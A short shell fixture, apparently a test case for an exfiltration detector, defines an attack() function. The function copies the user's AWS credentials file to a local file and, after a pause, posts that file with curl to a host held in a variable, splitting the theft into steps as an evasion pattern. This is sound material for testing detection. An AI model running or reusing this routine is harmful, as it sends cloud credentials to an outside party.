# SPDX-License-Identifier: Apache-2.0
TITLE="a copy by cat with redirections, sent later by another process"
ROW="F01"
attack() {
	cat <"$HOME/.aws/credentials" >copy
	sleep 0.3
	curl -s -m 5 --data-binary @copy "$URL/"
}
